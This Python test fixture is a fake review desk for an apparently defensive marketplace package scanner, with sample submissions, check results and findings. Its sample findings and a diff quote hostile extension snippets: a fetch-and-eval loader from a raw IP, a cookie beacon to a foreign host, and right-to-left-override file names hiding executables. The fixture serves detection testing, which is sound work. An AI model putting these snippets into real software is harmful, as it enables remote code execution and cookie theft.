"""A desk with no engine behind it: the same signatures as `app.desk.Desk`, realistic data, nothing hostile.

`hold()` makes the next run wait in the middle until `release()` or a cancel, so that a test sees a battery at work
without ever sleeping.
"""

from __future__ import annotations

import hashlib
import importlib.util
import sys
import threading
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from app.checklist import Answer, Checklist, build_checklist, gather_evidence, may_decide
from app.guidelines import load_guidelines, load_profile
from app.model import (
    Artifact,
    CheckFinished,
    CheckLog,
    CheckProgress,
    CheckResult,
    CheckStarted,
    Component,
    Decision,
    Event,
    FindingFound,
    Isolation,
    PackageReady,
    Run,
    RunFact,
    RunFinding,
    RunFinished,
    RunStarted,
    StageProgress,
    Submission,
    TreeSummary,
)
from app.settings import Settings
from app.triage import TriageEntry, TriageMatch, Verdict, match_triage
from app.views import Change, Comparison, DiffLine, FileRow, LineDiff, TextView
from checks import Outcome, Severity

NOW = datetime(2026, 3, 2, 14, 30, tzinfo=UTC)


def load_market() -> Any:
    """The module of the fake marketplace, by its path: tests have no package to import it from."""
    if "fake_market" not in sys.modules:
        spec = importlib.util.spec_from_file_location("fake_market", Path(__file__).with_name("fake_market.py"))
        assert spec is not None and spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        sys.modules["fake_market"] = module
        spec.loader.exec_module(module)
    return sys.modules["fake_market"]


@dataclass(frozen=True, slots=True)
class FakeAuditRow:
    at: datetime
    who: str
    action: str
    detail: str


class FakeError(ValueError):
    """One clear line for the user, as a DeskError is."""


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def make_artifact(name: str, size: int) -> Artifact:
    return Artifact(sha(name), sha(name)[:32], sha(name)[:40], size, name)


SUBMISSIONS = (
    Submission(
        1,
        make_artifact("acme-notes-2.4.1.xpi", 1_712_004),
        "Acme Notes",
        "2.4.1",
        "download",
        "browser extension",
        "Acme Software",
        "practice",
        NOW - timedelta(days=40),
        None,
        "A clean browser extension.",
    ),
    Submission(
        2,
        make_artifact("acme-notes-2.5.0.xpi", 1_804_113),
        "Acme Notes",
        "2.5.0",
        "download",
        "browser extension",
        "Acme Software",
        "practice",
        NOW - timedelta(days=3),
        1,
        "Read the diff, not the change log.",
    ),
    Submission(
        3,
        make_artifact("shop-sync-1.0.1.tgz", 88_412),
        "shop-sync",
        "1.0.1",
        "download",
        "npm package",
        "Shopware Ops",
        "file",
        NOW - timedelta(days=1),
    ),
    Submission(
        4,
        make_artifact("ledger_pdf-3.2-py3-none-any.whl", 412_900),
        "ledger-pdf",
        "3.2",
        "download",
        "wheel",
        "Ledgerline",
        "file",
        NOW - timedelta(hours=5),
    ),
    Submission(
        5,
        make_artifact("a-very-long-name-that-a-developer-chose-to-make-it-hard-\\u202efdp.exe.zip", 9_120),
        "A very long title that a developer chose in order to make every list overflow \\u202egpj.exe",
        "10.200.3000-beta.4",
        "download",
        "archive",
        "Nobody In Particular GmbH & Co. KG",
        "file",
        NOW - timedelta(minutes=12),
    ),
)

PATHS = (
    ("manifest.json", 1_912),
    ("src/background.js", 6_804),
    ("src/content.js", 12_480),
    ("src/ui/popup.html", 2_210),
    ("src/ui/popup.js", 9_004),
    ("src/ui/popup.css", 3_311),
    ("lib/editor.min.js", 284_113),
    ("lib/purify.js", 64_201),
    ("icons/icon-16.png", 612),
    ("icons/icon-48.png", 2_404),
    ("icons/icon-128.png", 7_733),
    ("_locales/en/messages.json", 4_120),
    ("_locales/de/messages.json", 4_300),
    ("_locales/ja/messages.json", 5_902),
    ("vendor/archive.zip", 70_400),
    ("vendor/archive.zip!/readme.txt", 320),
    ("vendor/archive.zip!/helper.exe", 66_048),
    ("LICENSE", 11_358),
    ("README.md", 2_940),
)

CHECKS: tuple[tuple[str, str, Outcome, str, tuple[str, ...], float], ...] = (
    ("mime_type", "The bytes are of the type that they claim", Outcome.CLEAN, "", ("DL-01",), 0.42),
    (
        "virus_scan",
        "Virus scan with ClamAV",
        Outcome.UNAVAILABLE,
        "no clamd answers and none is installed: apt-get install clamav-daemon",
        ("DL-02",),
        0.01,
    ),
    ("malware_rules", "Malware rules", Outcome.FOUND, "", ("DL-06",), 1.31),
    ("secrets", "Secrets left in the package", Outcome.FOUND, "", ("DL-08",), 0.92),
    ("archive_structure", "Sound archives", Outcome.CLEAN, "", ("DL-05",), 0.08),
    ("native_binary", "Native executables", Outcome.FOUND, "", ("DL-07",), 0.11),
    ("hidden_unicode", "Hidden and bidirectional characters", Outcome.CLEAN, "", ("DL-09",), 0.33),
    ("install_hook", "Install hooks and download-and-run", Outcome.FOUND, "", ("DL-09",), 0.21),
    ("obfuscation", "Obfuscated code", Outcome.TIMEOUT, "lib/editor.min.js took longer than 60 s", ("DL-09",), 60.0),
    ("plain_http", "Addresses without TLS", Outcome.FOUND, "", ("DL-10",), 0.17),
    ("wheel_record", "RECORD of a wheel", Outcome.SKIPPED, "not a wheel", ("DL-03",), 0.0),
)

# check, rule, severity, path, line, message, snippet, state
FINDINGS: tuple[tuple[str, str, Severity, str, int | None, str, str, str], ...] = (
    (
        "install_hook",
        "download_and_run",
        Severity.CRITICAL,
        "src/background.js",
        42,
        "Fetches code from a raw address on install and evaluates it",
        'fetch("http://45.13.0.9/u").then(r => r.text()).then(t => eval(t))',
        "new",
    ),
    (
        "malware_rules",
        "cookie_theft",
        Severity.HIGH,
        "src/content.js",
        118,
        "Reads document.cookie and sends it to a foreign host",
        "navigator.sendBeacon(host, document.cookie)",
        "new",
    ),
    (
        "secrets",
        "aws_access_key",
        Severity.HIGH,
        "src/ui/popup.js",
        12,
        "An AWS access key is left in the package",
        'const key = "AKIA****************";',
        "unchanged",
    ),
    (
        "native_binary",
        "undeclared",
        Severity.HIGH,
        "vendor/archive.zip!/helper.exe",
        None,
        "A Windows executable is not declared",
        "",
        "new",
    ),
    (
        "plain_http",
        "plain_http",
        Severity.LOW,
        "src/ui/popup.js",
        77,
        "An address without TLS",
        'const api = "http://api.acme.example/v1";',
        "unchanged",
    ),
    (
        "plain_http",
        "plain_http",
        Severity.LOW,
        "README.md",
        14,
        "An address without TLS",
        "http://acme.example",
        "fixed",
    ),
    (
        "malware_rules",
        "wide_permission",
        Severity.MEDIUM,
        "manifest.json",
        9,
        "Asks for access to all sites",
        '"<all_urls>"',
        "new",
    ),
    (
        "secrets",
        "generic_token",
        Severity.INFO,
        "src/content.js",
        3,
        "A string that could be a token",
        "tok = '****'",
        "new",
    ),
)

ISOLATION = Isolation(
    "bubblewrap", True, ("no network", "private file system", "no capabilities", "memory and time limits")
)


FACTS = (
    RunFact("manifest", "package", "name", "Acme Notes", "manifest.json"),
    RunFact("manifest", "package", "version", "2.5.0", "manifest.json", state="changed", was="2.4.1"),
    RunFact("permissions", "permission", "<all_urls>", "reads every page", "manifest.json", grade=Severity.HIGH),
    RunFact("signature", "signature", "XPI", "valid: CN=Acme", state="unchanged"),
)
PART = Component("left-pad", "1.3.0", "pkg:npm/left-pad@1.3.0", "package.json")


def make_finding(
    check: str,
    rule: str,
    severity: Severity,
    path: str,
    line: int | None,
    message: str,
    snippet: str,
    state: str | None,
) -> RunFinding:
    number = next((i for i, (name, _) in enumerate(PATHS) if name == path), None)
    guidelines = next((g for c, _, _, _, g, _ in CHECKS if c == check), ())
    start = None if line is None else line * 40
    return RunFinding(
        check,
        rule,
        severity,
        "high",
        message,
        path,
        path,
        sha(path),
        None if state == "fixed" else number,
        line,
        None if line is None else 5,
        start,
        None if start is None else start + len(snippet),
        snippet,
        sha(f"{check}{rule}{path}{snippet}")[:32],
        state,
        guidelines,
        "Ship the code inside the package, and let the marketplace review every change of it.",
        ("CWE-494",),
        check == "secrets",
    )


class FakeDesk:
    """Keeps everything in memory; thread-safe enough for one window."""

    def __init__(self, *, empty: bool = False, findings: int = 0, isolation: Isolation = ISOLATION) -> None:
        self.settings = Settings(reviewer="Rita Reviewer")
        self._submissions = {} if empty else {s.id: s for s in SUBMISSIONS}
        self._runs: dict[int, Run] = {}
        self._answers: dict[int, dict[str, Answer]] = {}
        self._triage: list[TriageEntry] = []
        self._decisions: list[Decision] = []
        self._notes: dict[int, str] = {}
        self._isolation = isolation
        self._many = findings
        self._free = threading.Event()
        self._free.set()
        self._guidelines = load_guidelines()
        self.closed = False
        self.limitation = ""
        self.fail_run: Exception | None = None
        self.marketplace = load_market().FakeMarketplace(self)
        if not empty:
            self._runs[1] = self._finish(1, clean=True)
            self._decisions.append(
                Decision(
                    1,
                    1,
                    SUBMISSIONS[0].artifact.sha256,
                    "approve",
                    "Acme Notes 2.4.1 meets every guideline.",
                    (),
                    "Rita Reviewer",
                    NOW - timedelta(days=39),
                )
            )

    # for tests

    def hold(self) -> None:
        self._free.clear()

    def release(self) -> None:
        self._free.set()

    def limit(self, limitation: str) -> None:
        """Let the virus scan of the clean submission have been limited."""
        self.limitation = limitation
        self._runs[1] = self._finish(1, clean=True)

    def add_submission(self, name: str, size: int, title: str, version: str, developer: str) -> Submission:
        """What a download from the marketplace leaves here."""
        number = max(self._submissions, default=0) + 1
        artifact = make_artifact(name, size)
        made = Submission(number, artifact, title, version, "download", "archive", developer, "marketplace", NOW)
        self._submissions[number] = made
        return made

    # the desk

    @property
    def reviewer(self) -> str:
        return self.settings.reviewer or "nobody"

    def missing_checks(self, run: Run) -> tuple[str, ...]:
        return tuple(c.id for c in run.checks if not c.outcome.ran)

    def isolation(self) -> Isolation:
        return self._isolation

    def apply_settings(self, settings: Settings) -> None:
        self.settings = settings

    def take_in(
        self,
        path: Path,
        *,
        kind: str | None = None,
        title: str = "",
        version: str = "",
        developer: str = "",
        baseline: int | None = None,
        lesson: str = "",
        progress: Callable[[int, int], None] | None = None,
        cancel: Any = None,
    ) -> Submission:
        if not path.exists():
            raise FakeError(f"{path.name}: there is no such file; check the path")
        size = path.stat().st_size
        if progress:
            progress(size // 2, size)
            progress(size, size)
        number = max(self._submissions, default=0) + 1
        taken = Submission(
            number,
            make_artifact(path.name, size),
            title or path.stem,
            version or "1.0",
            kind or "download",
            "archive",
            developer,
            "file",
            NOW,
            baseline,
            lesson,
        )
        self._submissions[number] = taken
        return taken

    def submissions(self) -> tuple[Submission, ...]:
        return tuple(self._submissions.values())

    def submission(self, submission: int) -> Submission:
        if submission not in self._submissions:
            raise FakeError(f"submission {submission} is not in the queue")
        return self._submissions[submission]

    def set_kind(self, submission: int, kind: str) -> Submission:
        self._submissions[submission] = replace(self.submission(submission), kind=kind)
        return self._submissions[submission]

    def set_baseline(self, submission: int, baseline: int | None) -> Submission:
        self._submissions[submission] = replace(self.submission(submission), baseline=baseline)
        return self._submissions[submission]

    def profiles(self) -> tuple[str, ...]:
        return ("enterprise", "financial", "standard")

    def check_titles(self) -> Mapping[str, str]:
        return {check: title for check, title, *_ in CHECKS}

    def _findings(self, clean: bool) -> tuple[RunFinding, ...]:
        if clean:
            return ()
        found = [make_finding(*f) for f in FINDINGS]
        found += [
            make_finding(
                "plain_http",
                "plain_http",
                Severity(i % 5),
                PATHS[i % len(PATHS)][0],
                i,
                f"Finding number {i}",
                f"http://host{i}.example",
                "new",
            )
            for i in range(self._many)
        ]
        return tuple(found)

    def _results(self, findings: Sequence[RunFinding], clean: bool) -> tuple[CheckResult, ...]:
        results = []
        for check, title, outcome, reason, guidelines, seconds in CHECKS:
            count = sum(f.check == check for f in findings)
            ended = Outcome.CLEAN if clean and outcome is not Outcome.SKIPPED else outcome
            log = (f"{check}: begins", f"{check}: looked at {len(PATHS)} files", f"{check}: ends")
            results.append(
                CheckResult(
                    check,
                    title,
                    ended,
                    seconds,
                    "" if clean else reason,
                    {"limit": 10},
                    guidelines,
                    count,
                    len(PATHS),
                    4,
                    log,
                    self.limitation if check == "virus_scan" and ended.ran else "",
                )
            )
        return tuple(results)

    def _finish(self, submission: int, *, clean: bool = False, cancelled: bool = False) -> Run:
        about = self._submissions[submission]
        findings = self._findings(clean)
        old = self._submissions[about.baseline].artifact if about.baseline else None
        if old is None:
            findings = tuple(replace(f, state=None) for f in findings if f.state != "fixed")
        tree = TreeSummary(
            "zip",
            about.family,
            about.title,
            about.version,
            about.kind,
            len(PATHS) + 5,
            len(PATHS),
            sum(size for _, size in PATHS),
            0,
        )
        return Run(
            submission,
            submission,
            about.artifact,
            about.kind,
            self.settings.profile,
            NOW - timedelta(minutes=4),
            NOW - timedelta(minutes=3),
            self._isolation,
            tree,
            old,
            self._results(findings, clean),
            findings,
            cancelled,
            "assay 0.1.0",
            facts=() if clean else FACTS,
            inventory=() if clean else (PART,),
        )

    def run(
        self,
        submission: int,
        *,
        profile: str | None = None,
        only: Sequence[str] = (),
        on_event: Callable[[Event], None],
        cancel: Any,
        live: bool = False,
    ) -> Run:
        self.live = live
        if self.fail_run is not None:
            raise self.fail_run
        run = self._finish(submission)
        on_event(RunStarted(run.id, tuple((c, t) for c, t, *_ in CHECKS), self._isolation))
        size = run.artifact.size
        on_event(StageProgress("unpacking", size // 2, size, "src/background.js"))
        on_event(StageProgress("unpacking", size, size))
        assert run.tree is not None
        on_event(PackageReady(run.tree))
        for result in run.checks:
            if result.outcome is not Outcome.SKIPPED:
                on_event(CheckStarted(result.id, result.files))
                on_event(CheckProgress(result.id, result.files // 2, result.files, 2))
        self._free.wait(60) if not cancel.cancelled else None
        results = []
        for result in run.checks:
            stopped = cancel.stops(result.id)
            if stopped and result.outcome is not Outcome.SKIPPED:
                result = replace(result, outcome=Outcome.CANCELLED, reason="cancelled by the reviewer", findings=0)
            else:
                for finding in run.findings:
                    if finding.check == result.id and finding.state != "fixed":
                        on_event(FindingFound(replace(finding, state=None)))
                for line in result.log:
                    on_event(CheckLog(result.id, line))
                on_event(CheckProgress(result.id, result.files, result.files, result.reused))
            results.append(result)
            on_event(CheckFinished(result))
        kept = {r.id for r in results if r.outcome is not Outcome.CANCELLED}
        run = replace(
            run,
            checks=tuple(results),
            cancelled=cancel.cancelled,
            findings=tuple(f for f in run.findings if f.check in kept),
        )
        self._runs[submission] = run
        on_event(RunFinished(run))
        return run

    def last_run(self, submission: int) -> Run | None:
        return self._runs.get(submission)

    def checklist(self, submission: int, run: Run | None = None) -> Checklist:
        run = run or self._runs.get(submission)
        matches = self.triage_matches(submission)
        evidence = gather_evidence(
            {check: guidelines for check, _, _, _, guidelines, _ in CHECKS},
            run.checks if run else (),
            run.findings if run else (),
            lambda f: matches[f.fingerprint].verdict if f.fingerprint in matches else None,
        )
        kind = self.submission(submission).kind
        profile = load_profile(self.settings.profile)
        return build_checklist(kind, profile, self._guidelines, evidence, self._answers.get(submission, {}))

    def answer(self, submission: int, guideline: str, value: str | None, comment: str = "") -> None:
        answers = self._answers.setdefault(submission, {})
        if value is None:
            answers.pop(guideline, None)
        else:
            answers[guideline] = Answer(guideline, value, comment, self.settings.reviewer, NOW)

    def triage(self, submission: int, fingerprints: Sequence[str], verdict: Verdict | None, reason: str = "") -> None:
        run = self._runs[submission]
        by_print = {f.fingerprint: f for f in run.findings}
        at = NOW + timedelta(seconds=len(self._triage))
        for one in fingerprints:
            found = by_print[one]
            self._triage.append(
                TriageEntry(one, found.file_sha256, verdict, reason, self.settings.reviewer, at, found.path)
            )

    def triage_matches(self, submission: int, run: Run | None = None) -> Mapping[str, TriageMatch]:
        run = run or self._runs.get(submission)
        return {
            f.fingerprint: match_triage(f.fingerprint, f.file_sha256, self._triage)
            for f in (run.findings if run else ())
        }

    def recent_reasons(self) -> tuple[str, ...]:
        said = (e.reason for e in reversed(self._triage) if e.reason)
        return tuple(dict.fromkeys((*said, "Test data, never used at run time", "Documented in the listing")))

    def decide(self, submission: int, decision: str, reason: str, *, escalate: bool = False) -> Decision:
        checklist = self.checklist(submission)
        may_decide(decision, checklist, reason)  # type: ignore[arg-type]
        made = Decision(
            len(self._decisions) + 1,
            submission,
            self.submission(submission).artifact.sha256,
            decision,
            reason,
            (),
            self.settings.reviewer,
            NOW,
        )
        self._decisions.insert(0, made)
        self.marketplace.put_decision(submission, decision, reason, escalate)
        return made

    def decisions(self, submission: int) -> tuple[Decision, ...]:
        return tuple(d for d in self._decisions if d.submission == submission)

    def note(self, submission: int) -> str:
        return self._notes.get(submission, "")

    def set_note(self, submission: int, text: str) -> None:
        self._notes[submission] = text

    def files(self, submission: int) -> tuple[FileRow, ...]:
        """Numbers as in PATHS; folders follow, -1 is the root."""
        rows, folders = [], dict[str, int]()
        names = [name for name, _ in PATHS]
        number = len(PATHS)
        for name in names:
            parts = name.replace("!/", "/").split("/")
            for depth in range(1, len(parts)):
                folder = "/".join(parts[:depth])
                if folder not in folders and not any(n == folder for n in names):
                    folders[folder], number = number, number + 1
        for i, (name, size) in enumerate(PATHS):
            parent = -1
            if "!/" in name:
                parent = names.index(name.split("!/")[0])
            elif "/" in name:
                parent = folders[name.rpartition("/")[0]]
            rows.append(FileRow(i, name, name, "file", size, sha(name), parent, ""))
        for folder, at in folders.items():
            rows.append(FileRow(at, folder, folder, "dir", 0, "", folders.get(folder.rpartition("/")[0], -1), ""))
        return tuple(rows)

    def text(
        self, submission: int, number: int, *, side: str = "submission", reveal: bool = False, beautify: bool = False
    ) -> TextView:
        path, size = PATHS[number]
        if path.endswith((".png", ".exe", ".zip")):
            lines = tuple(
                f"{i * 16:08x}  89 50 4e 47 0d 0a 1a 0a 00 00 00 0d 49 48 44 52  .PNG........IHDR" for i in range(40)
            )
            offsets = tuple(i * 16 for i in range(40))
            return TextView(path, sha(path), size, "", "", lines, tuple(() for _ in lines), offsets, max(0, size - 640))
        lines = tuple(f"const value{i} = compute({i}, 'text');" for i in range(1, 201))
        tokens = tuple(((0, 5, 1), (6, len(f"value{i}"), 0)) for i in range(1, 201))
        return TextView(path, sha(path), size, "utf-8", "javascript", lines, tokens, tuple(i * 40 for i in range(200)))

    def compare(self, submission: int) -> Comparison | None:
        if self.submission(submission).baseline is None:
            return None
        return Comparison(
            "Acme Notes 2.4.1",
            (
                Change("changed", "src/background.js", "src/background.js", 1, 1, 6_120, 6_804),
                Change("changed", "manifest.json", "manifest.json", 0, 0, 1_880, 1_912),
                Change("added", "", "vendor/archive.zip", None, 14, 0, 70_400),
                Change("removed", "lib/search.js", "", 7, None, 4_096, 0),
                Change("renamed", "lib/sanitize.js", "lib/purify.js", 8, 7, 64_201, 64_201, 100),
            ),
            14,
        )

    def line_diff(self, submission: int, change: Change) -> LineDiff:
        lines = [DiffLine("@", None, None, "@@ -40,4 +40,6 @@")]
        lines += [DiffLine(" ", i, i, f"const value{i} = compute({i});") for i in range(40, 42)]
        lines += [
            DiffLine("-", 42, None, "chrome.runtime.onInstalled.addListener(setup);"),
            DiffLine("+", None, 42, 'fetch("http://45.13.0.9/u").then(r => r.text()).then(t => eval(t))'),
            DiffLine("+", None, 43, "chrome.runtime.onInstalled.addListener(() => setup(true));"),
            DiffLine(" ", 43, 44, "export default setup;"),
        ]
        return LineDiff(change.old_path, change.new_path, tuple(lines), 2, 1)

    def export(self, submission: int, format: str, target: Path) -> Path:
        target.write_text(f"# Review notes: {self.submission(submission).title}\n", encoding="utf-8")
        return target

    def history(self, submission: int) -> tuple[FakeAuditRow, ...]:
        return (FakeAuditRow(NOW - timedelta(days=3), "Rita Reviewer", "taken in", "acme-notes-2.5.0.xpi"),)

    def close(self) -> None:
        self.closed = True
